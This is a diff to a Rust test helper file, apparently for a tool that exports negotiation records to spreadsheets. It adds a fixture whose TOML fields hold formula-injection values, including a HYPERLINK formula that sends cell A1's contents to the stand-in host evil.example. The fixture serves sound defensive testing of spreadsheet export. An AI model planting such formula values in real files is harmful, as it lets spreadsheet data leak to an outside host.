@@ -21,6 +21,7 @@ mod trend;
 mod ukraine;
 mod whatif;
 mod width;
+mod xlsx;
 
 use std::path::{Path, PathBuf};
 
@@ -61,6 +62,26 @@ pub fn run(mut cmd: Command, args: &[&str]) -> (String, String, i32) {
         String::from_utf8(out.stderr).unwrap(),
         out.status.code().unwrap_or(-1),
     )
+}
+
+/// A data folder of one talks, `evil`, whose text a spreadsheet would run
+/// as formulas: a `=HYPERLINK(…)` title, a party `+A`, an issue `@I`, a
+/// summary `=1+1` (party `a`, issue `i`).
+pub fn formula_talks() -> tempfile::TempDir {
+    let tmp = tempfile::tempdir().unwrap();
+    let talks = tmp.path().join("evil");
+    std::fs::create_dir_all(talks.join("rounds")).unwrap();
+    std::fs::write(
+        talks.join("talks.toml"),
+        "title = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"\n[[parties]]\nid = \"a\"\nname = \"+A\"\n[[parties]]\nid = \"b\"\nname = \"B\"\n[[issues]]\nid = \"i\"\ntitle = \"@I\"\nscale = [{ id = \"x\", label = \"X\" }, { id = \"y\", label = \"Y\" }]\n",
+    )
+    .unwrap();
+    std::fs::write(
+        talks.join("rounds/2024-01-01-r.toml"),
+        "date = 2024-01-01\ntitle = \"R\"\nparticipants = [\"a\"]\n[positions.a.i]\nstance = \"x\"\nsummary = \"=1+1\"\nnote = \"none\"\n",
+    )
+    .unwrap();
+    tmp
 }
 
 /// Stdout of a command that must succeed.
